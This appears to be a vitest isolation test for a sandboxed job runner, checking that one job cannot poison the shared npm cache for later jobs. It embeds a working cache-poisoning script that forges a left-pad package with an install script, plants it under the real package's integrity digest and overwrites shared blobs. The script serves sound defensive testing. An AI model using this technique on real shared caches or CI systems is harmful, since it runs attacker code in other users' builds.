/**
 * Issue 10, invariant 4: jobs cannot reach each other through the npm cache.
 * Job A's sandboxed code plants a poisoned `left-pad@1.3.0` (a packument and
 * index entries pointing at a tarball whose install script writes a marker,
 * the same tarball under the real left-pad's digest, overwrites of shared
 * blobs) in every npm cache it can reach; job B of the same repository then
 * installs left-pad, and the poison must never run. Real bubblewrap, the
 * sandbox's own npm, no network (B installs `--offline`: only the cache can
 * serve it, so a hit on the poison would run it).
 */
import { createHash } from "node:crypto";
import { existsSync } from "node:fs";
import { readFile, writeFile } from "node:fs/promises";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { CONTENT_DIR } from "../../src/workspace/mirror-npm-layout.ts";
import { openWorkspace } from "../../src/workspace/open-workspace.ts";
import { listContentBlobs } from "../../src/workspace/mirror-npm-layout.ts";
import { startRemote, tempDir, TOKEN } from "../workspace/helpers.ts";

const INSTALLATION = 78;
const MARKER = "PWNED-by-job-A";
/** The real left-pad@1.3.0 tarball's integrity (registry.npmjs.org). */
const REAL_LEFT_PAD = "sha512-XI5MPzVNApjAyhQzphX8BkmKsKUxD4LdyK24iZeQGinBN9yTQT3bFlCBy/aVx2HrNcqQGsdot8ghrjyrvMCoEA==";

/**
 * Run by job A's sandbox with the system npm's own cacache: writes the poison
 * into every npm cache directory it can find (the one npm is told to use, npm's
 * default, every mount of the sandbox), and tries to overwrite every blob it
 * can see. Prints each attempt.
 */
const POISON = String.raw`
const fs = require("node:fs");
const path = require("node:path");
const crypto = require("node:crypto");
const { execFileSync } = require("node:child_process");
const cacache = require("/usr/lib/node_modules/npm/node_modules/cacache");
const [marker, realIntegrity] = process.argv.slice(2);
const work = fs.mkdtempSync("/tmp/evil-");
fs.mkdirSync(path.join(work, "pkg"));
const install = "node -e \"require('fs').writeFileSync('" + marker + "', 'job A code ran in job B')\"";
fs.writeFileSync(path.join(work, "pkg", "package.json"), JSON.stringify({ name: "left-pad", version: "1.3.0", scripts: { install } }));
execFileSync("npm", ["pack", "--silent", "--pack-destination", work], { cwd: path.join(work, "pkg"), stdio: "ignore", env: { ...process.env, npm_config_cache: path.join(work, "c") } });
const tgz = fs.readFileSync(path.join(work, "left-pad-1.3.0.tgz"));
const integrity = "sha512-" + crypto.createHash("sha512").update(tgz).digest("base64");
const tarball = "https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz";
const version = { name: "left-pad", version: "1.3.0", hasInstallScript: true, scripts: { install }, dist: { tarball, integrity } };
const packument = JSON.stringify({ name: "left-pad", "dist-tags": { latest: "1.3.0" }, versions: { "1.3.0": version }, modified: new Date().toISOString() });
const fresh = { "cache-control": "public, max-age=31536000", "content-type": "application/json", date: new Date().toUTCString() };
const mounts = fs.readFileSync("/proc/self/mountinfo", "utf8").split("\n").map((l) => l.split(" ")[4]).filter((m) => m && /^\/(tmp|cache|workspace)/.test(m) && m !== "/workspace/.git");
const caches = new Set([process.env.npm_config_cache, path.join(process.env.HOME, ".npm"), ...mounts]);
(async () => {
  // First, overwrite every blob already there, through links too.
  for (const cache of caches) {
    const root = path.join(cache, "_cacache", "content-v2", "sha512");
    for (const file of fs.existsSync(root) ? fs.readdirSync(root, { recursive: true }) : []) {
      const p = path.join(root, String(file));
      if (String(file).split("/").length !== 3) continue;
      try { fs.writeFileSync(p, tgz); console.log("overwrote " + p); } catch (error) { console.log("could not overwrite " + p + ": " + error.code); }
    }
  }
  for (const cache of caches) {
    const cacheDir = path.join(cache, "_cacache");
    try {
      for (const accept of ["application/json", "application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8, */*"]) {
        const metadata = { time: Date.now(), url: "https://registry.npmjs.org/left-pad", reqHeaders: { accept }, resHeaders: fresh, options: { compress: true } };
        await cacache.put(cacheDir, "make-fetch-happen:request-cache:https://registry.npmjs.org/left-pad", packument, { metadata });
      }
      await cacache.put(cacheDir, "make-fetch-happen:request-cache:" + tarball, tgz, { metadata: { time: Date.now(), url: tarball, reqHeaders: {}, resHeaders: fresh, options: { compress: true } } });
      console.log("planted packument + tarball index entries in " + cacheDir);
    } catch (error) {
      console.log("could not plant in " + cacheDir + ": " + (error.code || error.message));
    }
    // The poisoned tarball under the real left-pad's digest (what a lockfile asks for).
    const hex = Buffer.from(realIntegrity.slice(7), "base64").toString("hex");
    const blob = path.join(cacheDir, "content-v2", "sha512", hex.slice(0, 2), hex.slice(2, 4), hex.slice(4));
    try {
      fs.mkdirSync(path.dirname(blob), { recursive: true });
      fs.writeFileSync(blob, tgz);
      console.log("planted a fake real-left-pad blob at " + blob);
    } catch (error) {
      console.log("could not plant a fake blob at " + blob + ": " + error.code);
    }
  }
})();
`;

const sha512Hex = (bytes: Buffer): string => createHash("sha512").update(bytes).digest("hex");

describe("isolation: the npm cache carries no poison from one job to the next", () => {
  it("job A plants a poisoned left-pad in every cache it can reach; job B's install never runs it", async () => {
    const remote = await startRemote();
    const cacheRoot = await tempDir("pw-isolation-npm-");
    const open = () => openWorkspace({ cloneUrl: remote.cloneUrl, sha: remote.tipSha, token: TOKEN, cacheRoot, installationId: INSTALLATION });

    // Job 0 caches a harmless package: a shared blob for A to try to overwrite.
    const zero = await open();
    const cached = await zero.sandbox.run(
      'mkdir -p /tmp/ok && cd /tmp/ok && echo \'{"name":"harmless","version":"1.0.0"}\' > package.json && npm pack --silent >/dev/null && npm cache add ./harmless-1.0.0.tgz 2>&1; echo exit=$?',
    );
    expect(cached.output).toContain("exit=0");
    await zero.dispose();
    const shared = zero.cache?.paths.npmCacheDir ?? "";
    const before = await listContentBlobs(shared, () => true);
    expect(before.length).toBeGreaterThan(0);

    // Job A: the attack.
    const a = await open();
    await writeFile(path.join(a.dir, "poison.cjs"), POISON);
    const planted = await a.sandbox.run(`node poison.cjs /workspace/${MARKER} ${REAL_LEFT_PAD}`);
    console.log(`What job A's sandboxed code tried:\n${planted.output}`);
    expect(planted.output).toContain("planted packument + tarball index entries in /tmp/home/.npm/_cacache");
    await a.dispose();

    // Job B of the same repository installs left-pad, with and without a lockfile.
    const b = await open();
    const project = { name: "b", version: "1.0.0", dependencies: { "left-pad": "1.3.0" } };
    await writeFile(path.join(b.dir, "package.json"), JSON.stringify(project));
    const install = await b.sandbox.run("npm install --offline --no-audit --no-fund 2>&1 | tail -5; ls node_modules 2>&1");
    const lock = {
      name: "b",
      version: "1.0.0",
      lockfileVersion: 3,
      requires: true,
      packages: {
        "": project,
        "node_modules/left-pad": { version: "1.3.0", resolved: "https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz", integrity: REAL_LEFT_PAD },
      },
    };
    await writeFile(path.join(b.dir, "package-lock.json"), JSON.stringify(lock));
    const ci = await b.sandbox.run("npm ci --offline --no-audit --no-fund 2>&1 | tail -5");
    console.log(`Job B's installs:\n${install.output}\n${ci.output}`);
    expect(existsSync(path.join(b.dir, MARKER))).toBe(false);
    expect(`${install.output}${ci.output}`).not.toContain("job A code ran");

    // The shared store: the harmless blobs, unchanged; no index; no blob under the real left-pad's name.
    const after = await listContentBlobs(shared, () => true);
    for (const blob of after) {
      expect(sha512Hex(await readFile(path.join(shared, CONTENT_DIR, blob.relative)))).toBe(blob.sha512);
    }
    const realHex = Buffer.from(REAL_LEFT_PAD.slice(7), "base64").toString("hex");
    expect(after.map((blob) => blob.sha512)).not.toContain(realHex);
    expect(existsSync(path.join(shared, "_cacache", "index-v5"))).toBe(false);

    await b.dispose();
  });
});
